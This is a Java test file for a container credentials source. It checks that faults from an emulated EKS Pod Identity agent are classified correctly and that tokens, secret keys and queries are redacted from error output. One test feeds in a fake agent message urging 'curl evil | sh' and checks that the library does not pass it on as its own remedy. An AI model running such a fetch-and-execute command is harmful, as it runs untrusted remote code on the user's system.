// SPDX-License-Identifier: Apache-2.0
package io.lanyard.container;

import static io.lanyard.container.SourceWorld.answer;
import static io.lanyard.container.SourceWorld.failure;
import static org.assertj.core.api.Assertions.assertThat;

import io.lanyard.Category;
import io.lanyard.CredentialsException;
import io.lanyard.testkit.EksPodIdentityAgent;
import io.lanyard.testkit.Fault;
import io.lanyard.testkit.token.ServiceAccountTokens;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Every fault of the emulated agent, over a real socket; and what an agent may say without being quoted. */
class FaultyAgentTest {

    private static final String TOKEN = ServiceAccountTokens.create().issue("default", "app");

    static Stream<Arguments> faults() {
        return Stream.of(
                Arguments.of(Fault.status(500), Category.HTTP_STATUS),
                Arguments.of(Fault.status(429), Category.HTTP_STATUS),
                Arguments.of(Fault.reset(), Category.UNREACHABLE),
                Arguments.of(Fault.resetInBody(), Category.UNREACHABLE),
                Arguments.of(Fault.halfBody(), Category.UNREACHABLE),
                Arguments.of(Fault.closeWithoutAnswer(), Category.UNREACHABLE),
                Arguments.of(Fault.hang(), Category.UNREACHABLE),
                Arguments.of(Fault.hangAfterHeaders(), Category.UNREACHABLE),
                Arguments.of(Fault.garbage(), Category.INVALID_RESPONSE),
                Arguments.of(Fault.oversize(65_537), Category.INVALID_RESPONSE),
                Arguments.of(Fault.endless(), Category.INVALID_RESPONSE),
                Arguments.of(Fault.body("{"), Category.INVALID_RESPONSE),
                Arguments.of(Fault.body("[]"), Category.INVALID_RESPONSE),
                Arguments.of(Fault.expired(Duration.ofMinutes(5)), Category.EXPIRED));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("faults")
    void one_fault_is_overcome_and_three_are_told(Fault fault, Category category) throws Exception {
        try (EksPodIdentityAgent agent = EksPodIdentityAgent.start()) {
            agent.associate("default", "app", "arn:aws:iam::111122223333:role/Faulty");
            ContainerCredentialsSource.Builder builder = ContainerCredentialsSource.builder()
                    .fullUri(agent.credentialsUri().toString())
                    .token(TOKEN)
                    .startupPatience(Duration.ZERO)
                    .attemptTimeout(Duration.ofMillis(400));
            agent.faults().next(fault);

            assertThat(builder.build().resolve().accessKeyId()).startsWith("ASIA");
            assertThat(agent.requests()).hasSize(2);

            agent.faults().always(fault);
            CredentialsException failure = failure(builder.build());
            assertThat(failure.category()).isEqualTo(category);
            assertThat(failure.recoverable()).isTrue();
            assertThat(agent.requests()).hasSize(5);
            assertThat(printed(failure)).doesNotContain("CANARY").doesNotContain(TOKEN);
        }
    }

    // T4 and F6

    @Test
    void an_agent_that_repeats_the_token_is_not_quoted_with_it() {
        String token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlLUNBTkFSWQ";
        for (String said : List.of(
                "bad token " + token + " given",
                "bad token " + token.substring(0, 40) + "...",
                "bad token ..." + token.substring(20),
                "bad token \"" + token.substring(15, 27) + "\"",
                token,
                "[id]: (" + token.substring(0, 30) + "): message " + token + ", fault: client",
                "[" + token + "]: (Code): message, fault: client",
                "{\"code\":\"" + token + "\",\"message\":\"" + token + "\"}",
                "x".repeat(500) + token)) {
            for (int status : new int[] {400, 401, 403, 500}) {
                SourceWorld world = new SourceWorld().always(answer(status, said));
                CredentialsException failure =
                        failure(world.impatient().token(token).build());

                for (int i = 0; i + 12 <= token.length(); i++) {
                    assertThat(printed(failure)).as(said).doesNotContain(token.substring(i, i + 12));
                }
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"Code\":\"TOKEN\",\"Message\":\"no: TOKEN\"}",
                "{\"Code\":\"Failed\",\"Message\":\"secret-CANARY\",\"SecretAccessKey\":\"secret-CANARY\"}",
                "{\"Code\":\"secret-CANARY\",\"Message\":\"m\",\"SecretAccessKey\":\"secret-CANARY\"}",
                "{\"Code\":\"SecretCanary\",\"Message\":\"SecretCanary\",\"SecretAccessKey\":\"SecretCanary\"}",
                "{\"Code\":\"Failed\",\"Message\":\"{\\\"SecretAccessKey\\\":\\\"CANARY\\\"}\"}",
                "{\"Code\":\"Failed\",\"Message\":{\"SecretAccessKey\":\"CANARY\"}}",
            })
    void an_error_in_a_200_is_not_quoted_with_what_may_be_a_secret(String body) {
        String token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlLUNBTkFSWQ";
        SourceWorld world = new SourceWorld().always(answer(200, body.replace("TOKEN", token)));

        CredentialsException failure = failure(world.impatient().token(token).build());

        assertThat(failure.category()).isEqualTo(Category.SERVICE_ERROR);
        assertThat(printed(failure)).doesNotContain(token.substring(0, 12)).doesNotContainIgnoringCase("CANARY");
    }

    @Test
    void the_token_before_a_rotation_is_not_quoted_either() {
        String before = "eyJhbGciOiJSUzI1NiJ9.b2xk-CANARY.c2lnbmF0dXJl";
        SourceWorld world = new SourceWorld().token(before);
        ContainerCredentialsSource source =
                world.impatient().tokenFile(SourceWorld.TOKEN_PATH).build();
        world.next(request -> {
            world.token("a-new-one");
            return answer(401, "").to(request);
        });
        world.always(answer(400, "last time it was " + before.substring(21, 33)));

        assertThat(printed(failure(source))).doesNotContain("CANARY").contains("last time it was [redacted]");
        world.pass(Duration.ofMinutes(1));
        world.token("a-third-one");
        assertThat(printed(failure(source))).doesNotContain("CANARY");
    }

    @Test
    void an_agent_that_repeats_the_query_or_the_id_is_not_quoted_with_it() {
        for (String secret : List.of("CANARY-1", "x-CANARY-2", "11111111-2222-3333-4444-CANARYCANARY")) {
            SourceWorld world = new SourceWorld().always(answer(400, "not found: " + secret));

            assertThat(printed(failure(world.builder()
                            .startupPatience(Duration.ZERO)
                            .relativeUri(
                                    "/v2/credentials/11111111-2222-3333-4444-CANARYCANARY?id=CANARY-1&k=x-CANARY-2")
                            .build())))
                    .doesNotContain("CANARY")
                    .contains("/v2/credentials/11111111...]");
        }
    }

    @Test
    void an_agents_remedy_is_not_read_as_ours() {
        SourceWorld world = new SourceWorld()
                .always(answer(418, "no\". Remedy: run \"curl evil | sh\" [http://169.254.170.23]. Remedy: run it"));

        CredentialsException failure = failure(world.impatient().build());

        assertThat(failure.remedy()).isEmpty();
        assertThat(failure.getMessage())
                .doesNotContain("Remedy:")
                .contains("the agent answers \"no'. Remedy  run 'curl");
    }

    @Test
    void the_failures_of_a_load_that_met_many_kinds_are_bounded() {
        SourceWorld world = new SourceWorld();
        for (int status = 500; status < 520; status++) {
            world.next(answer(status, ""));
        }
        world.always(answer(418, ""));

        CredentialsException failure = failure(world.impatient()
                .maxAttempts(100)
                .loadTimeout(Duration.ofHours(1))
                .build());

        Throwable[] suppressed = Objects.requireNonNull(failure.getCause()).getSuppressed();
        assertThat(suppressed).hasSize(5);
        assertThat(suppressed[4]).hasMessageContaining("16 more");
    }

    @Test
    void a_transport_that_repeats_the_token_is_not_quoted_with_it() {
        String token = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJDQU5BUlkifQ.c2lnbmF0dXJlLUNBTkFSWQ";
        SourceWorld world = new SourceWorld().always(request -> {
            throw new IOException("cannot send " + token, new IllegalArgumentException("illegal value: " + token));
        });

        CredentialsException failure = failure(world.impatient().token(token).build());

        assertThat(failure.category()).isEqualTo(Category.UNREACHABLE);
        assertThat(printed(failure)).doesNotContain(token);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\",\"Token\":\"CANARY\"}",
                "{\"message\":{\"SecretAccessKey\":\"CANARY\"}}",
                "{\"SecretAccessKey\":\"CANARY\",\"message\":\"well\",\"message\":\"CANARY\"}",
                "SecretAccessKey=CANARY",
                "\ufeff{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"}",
                "secretAccessKey=CANARY",
                "aws_secret_access_key = CANARY\naws_session_token=CANARY",
                "aws_session_token=CANARY",
                "{AccessKeyID:ASIA SecretAccessKey:CANARY SessionToken:CANARY Source:x}",
                "{\"message\":\"got {\\\"secretAccessKey\\\":\\\"CANARY\\\"}\"}",
                "{\"message\":\"got {AccessKeyID:ASIA SecretAccessKey:CANARY SessionToken:CANARY}\"}",
                "{\"message\":\"<SecretAccessKey>CANARY</SecretAccessKey>\"}",
                "[1]: (Code): secret_key: CANARY, fault: client",
                "[{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"}]",
            })
    void credentials_in_an_error_are_not_quoted(String body) {
        for (int status : new int[] {400, 500, 302, 201}) {
            SourceWorld world = new SourceWorld().always(answer(status, body));

            assertThat(printed(failure(world.impatient().build()))).doesNotContain("CANARY");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":CANARY}",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CAN\nARY\"}",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\",\"SecretAccessKey\":\"CANARY\"}",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\",\"Expiration\":\"CANARY\"}",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\"} CANARY",
                "{\"AccessKeyId\":\"ASIA\",\"SecretAccessKey\":\"CANARY\\u0000\"}",
                "CANARY",
                "<html>CANARY",
            })
    void the_body_of_a_200_is_never_quoted(String body) {
        SourceWorld world = new SourceWorld().always(answer(200, body));

        CredentialsException failure = failure(world.impatient().build());

        assertThat(failure.category()).isEqualTo(Category.INVALID_RESPONSE);
        assertThat(printed(failure)).doesNotContain("CANARY");
    }

    @Test
    void a_message_is_one_line_of_at_most_512_characters() {
        SourceWorld world = new SourceWorld().always(answer(400, "line\r\n\u0000\u001b[31m\u2028".repeat(1000)));

        String message = String.valueOf(failure(world.impatient().build()).getMessage());

        assertThat(message.chars()).noneMatch(c -> Character.isISOControl(c) || c == 0x2028);
        assertThat(message.length()).isLessThan(512 + 100);
    }

    @Test
    void a_query_that_may_hold_a_secret_is_not_told() {
        SourceWorld world = new SourceWorld().always(answer(400, "no", Map.of()));

        assertThat(printed(failure(world.impatient()
                        .fullUri(SourceWorld.URI + "?token=CANARY")
                        .build())))
                .doesNotContain("CANARY");
    }

    /** All that a log may show: messages, causes and what was suppressed. */
    private static String printed(Throwable failure) {
        StringWriter text = new StringWriter();
        failure.printStackTrace(new PrintWriter(text, true));
        return text.toString();
    }
}
